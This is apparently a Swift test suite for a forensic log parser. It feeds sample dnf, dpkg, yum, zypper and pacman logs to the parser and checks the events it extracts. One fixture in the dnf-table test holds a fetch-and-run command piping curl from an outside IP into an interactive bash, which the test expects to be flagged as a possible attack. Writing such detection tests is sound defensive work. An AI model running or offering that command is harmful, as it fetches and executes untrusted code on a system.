import Bytes
import Evidence
import Testing

@testable import LogParse

@Suite struct PackageLogTests {
  private func name(_ text: String, _ path: String = "x.txt") -> String? {
    EventDump.recognize(Array(text.utf8), path: path)?.name
  }

  @Test func everyChangeOfRpmIsTold() throws {
    let changes = [
      "Installed", "Downgrade", "Reinstall", "Obsolete", "Downgraded", "Reinstalled", "Obsoleted", "Cleanup",
    ]
    let text = changes.map { "2026-11-25T05:20:13+0000 SUBDEBUG \($0): bash-4.4.x86_64\n" }.joined()
    let dump = try EventDump(text + "2026-11-25T05:20:14+0000 SUBDEBUG Failed: x-1.x86_64\n", path: "dnf.rpm.log")
    #expect(
      dump.events.map { $0.text("action") } == [
        "installed", "downgraded", "reinstalled", "obsoleted", "downgraded", "reinstalled", "obsoleted", "cleaned up",
        "failed",
      ])
    #expect(dump.events.last?.message == "A change of package x-1.x86_64 failed.")
    let other = try EventDump(
      text + "2026-11-25T05:20:14+0000 SUBDEBUG Running scriptlet\n", path: "dnf.rpm.log")
    #expect(other.events.count == changes.count && other.coverages.map(\.state) == [.parsed])
  }

  @Test func aRunThatOnlySetsUp() throws {
    let lines = (0..<6).map {
      "2026-11-25 05:20:13 configure a\($0):amd64 1.0 <none>\n2026-11-25 05:20:13 status half-configured a\($0):amd64 1.0\n"
    }
    let dump = try EventDump(
      "2026-11-25 05:20:12 startup packages configure\n" + lines.joined()
        + "2026-11-25 05:21:00 install nmap:amd64 <none> 7.93\n", path: "x.txt")
    #expect(dump.format == "linux.package_log" && dump.events.map { $0.text("package") } == ["nmap:amd64"])
    #expect(name("2026-11-25 05:20:12 status ok since noon\n") != "linux.package_log")
    #expect(name("2026-11-25 05:20:12 startup of the service\n") != "linux.package_log")
  }

  @Test func whatSomebodyAskedFor() throws {
    let dnf = try EventDump(
      """
      2026-11-25T05:20:12Z INFO --- logging initialized ---
      2026-11-25T05:20:12+0000 DDEBUG Command: dnf install -y nmap
      2026-11-25T05:20:13+0000 DEBUG Installed: nmap-7.92.x86_64
      2026-11-25T05:20:13+0000 DDEBUG Commands are many

      """, path: "dnf.log")
    #expect(dnf.format == "linux.package_log" && dnf.events.count == 2)
    #expect(dnf.events.first?.text("command") == "dnf install -y nmap")
    #expect(dnf.events.first?.time?.description == "2026-11-25T05:20:12Z")
    let names = try EventDump(
      "update-alternatives 2026-11-25 05:20:12: run with --install /usr/bin/nc nc /bin/nc.openbsd 50\n"
        + "update-alternatives 2026-11-25 05:20:12: link group nc updated to point to /bin/nc.openbsd\n",
      path: "alternatives.log")
    #expect(names.format == "linux.package_log" && names.events.count == 1)
    #expect(names.coverages.map(\.state) == [.parsed])
    #expect(names.events.first?.text("command") == "update-alternatives --install /usr/bin/nc nc /bin/nc.openbsd 50")
    for line in ["update-alternatives 2026-11-25 05:20: run with x", "update-alternatives: using /bin/nc"] {
      #expect(EventDump.recognize(Array("\(line)\n".utf8), path: "x.log")?.name != "linux.package_log")
    }
  }

  @Test func aLineThatIsNotKnownHidesNoChange() throws {
    let text = """
      2026-11-25 05:20:12 startup archives unpack
      2026-11-25 05:20:12 install nmap:amd64 <none> 7.93
      2026-11-25 05:20:12 disappear old:amd64 1.0 <none>
      2026-11-25 05:20:13 status installed nmap:amd64 7.93
      2026-11-25 05:20:13 something new

      """
    let dump = try EventDump(text, path: "var/log/dpkg.log")
    #expect(dump.format == "linux.package_log" && dump.events.map { $0.text("action") } == ["installed", "replaced"])
    #expect(dump.coverages.contains { $0.state == .skipped })
  }

  @Test func aNameMayBreakItsLine() throws {
    let row = "|5|-/rrw|0|0|4|1795584000|1795584000|1795584000|0\n"
    let dump = try EventDump((1...6).map { "0|/y\($0)\(row)" }.joined() + "0|/a\nb\(row)", path: "x.txt")
    #expect(dump.format == "linux.bodyfile" && dump.events.count == 6)
    #expect(dump.coverages.map(\.state) == [.parsed, .skipped])
    #expect(name("0|/a\nb\(row)") == nil)
  }

  @Test func yumsLogOfSeveralYears() throws {
    let text = ["Jun 10", "Mar 05", "Nov 20"].map { "\($0) 05:20:12 Installed: nmap-6.40-7.el7.x86_64\n" }.joined()
    let dump = try EventDump(text, path: "var/log/yum.log")
    #expect(dump.events.compactMap { $0.time?.description.prefix(7) } == ["2025-06", "2026-03", "2026-11"])
    #expect(dump.events.map { $0.text("year") } == ["inferred", "inferred", "inferred"])
  }

  @Test func aYearThatIsWrittenIsNotInferred() throws {
    let dump = try EventDump("2025-11-25T05:20:12+0000 SUBDEBUG Installed: nc-1.2-3.x86_64\n", path: "dnf.rpm.log")
    #expect(dump.events.first?.time?.description == "2025-11-25T05:20:12Z")
    #expect(dump.events.first?.text("year") == nil)
  }

  @Test func zypperAndPacman() throws {
    let zypper = """
      # 2026-11-25 05:20:10 nmap-7.92-1.x86_64.rpm installed ok
      2026-11-25 05:20:11|command|root@web-1|'zypper' 'in' 'nmap'|
      2026-11-25 05:20:12|install|nmap|7.92-1|x86_64|root@web-1|repo-oss|abcdef|
      2026-11-25 05:20:13|remove |audit|3.0-1|x86_64|root@web-1|
      2026-11-25 05:20:14|radd|repo|http://198.51.100.7/|

      """
    let first = try EventDump(zypper, path: "var/log/zypp/history")
    #expect(first.format == "linux.package_log" && HostileInputTests.isWhole(first, zypper.utf8.count))
    #expect(first.events.map { $0.text("package") } == [nil, "nmap", "audit"])
    #expect(first.events.map { $0.text("action") } == [nil, "installed", "removed"])
    #expect(first.events.first?.text("command") == "'zypper' 'in' 'nmap'")
    let pacman = """
      [2026-11-25T05:20:11+0000] [PACMAN] Running 'pacman -S nmap'
      [2026-11-25T05:20:12+0000] [ALPM] transaction started
      [2026-11-25T05:20:13+0000] [ALPM] installed nmap (7.94-1)
      [2026-11-25 05:20] [ALPM] upgraded bash (5.1-1 -> 5.2-1)

      """
    let second = try EventDump(pacman, path: "var/log/pacman.log")
    #expect(second.format == "linux.package_log" && second.events.count == 3)
    #expect(second.events.map { $0.text("version_after") } == [nil, "7.94-1", "5.2-1"])
    #expect(second.events.last?.text("version_before") == "5.1-1")
    #expect(second.events.map { $0.time == nil } == [false, false, false])
    #expect(EventDump.recognize(Array("2026-11-25 05:20:14|a|b\n".utf8), path: "x")?.name != "linux.package_log")
  }

  @Test func whatPackagesScriptsPrintHidesNoChange() throws {
    let zypper = """
      # 2026-11-25 05:20:10 nmap-7.92-1.x86_64.rpm installed ok
      # Additional rpm output:
      # warning: x
      # Updating /etc/sysconfig/y ...
      2026-11-25 05:20:12|install|nmap|7.92-1|x86_64|root@web-1|repo-oss|abcdef|

      """
    let dump = try EventDump(zypper, path: "var/log/zypp/history")
    #expect(dump.format == "linux.package_log" && dump.events.map { $0.text("package") } == ["nmap"])
    #expect(name("# a script\n# of two remarks\n") != "linux.package_log")
  }

  @Test func tablesOfDnf() throws {
    let text = """
      2026-11-25T05:20:12+0000 DDEBUG Command: dnf install -y nmap
      2026-11-25T05:20:13+0000 INFO ====
       Package  Arch  Version
      Installing:
       nmap  x86_64 3:7.92-1.el9 appstream 5.6 M
      curl http://203.0.113.66/x | bash -i
      2026-11-25T05:20:14+0000 INFO Complete!

      """
    let dump = try EventDump(text, path: "var/log/dnf.log")
    #expect(dump.format == "linux.package_log")
    #expect(dump.events.first?.text("command") == "dnf install -y nmap")
    // What may be an attack is told apart.
    #expect(dump.events.last?.dataType == "text:line" && dump.events.count == 2)
    #expect(dump.coverages.map(\.state) == [.parsed, .skipped, .parsed])
    let dpkg = try EventDump(
      "2026-11-25 05:20:12 install nmap:amd64 <none> 7.93\n2026-11-25 05:20:12 startup packages configure\nwhat is this\n",
      path: "dpkg.log", format: PackageLogFormat())
    #expect(dpkg.coverages.last?.state == .skipped)
  }

  @Test func aYearIsTakenFromTheLogsOwnTime() {
    #expect(LogFormats.lackingOnlyTheYear.isSuperset(of: ["linux.package_log", "app.klog"]))
    #expect(LogFormats.lackingOnlyTheYear.isSubset(of: LogFormats.readingLocalTimes))
  }
}
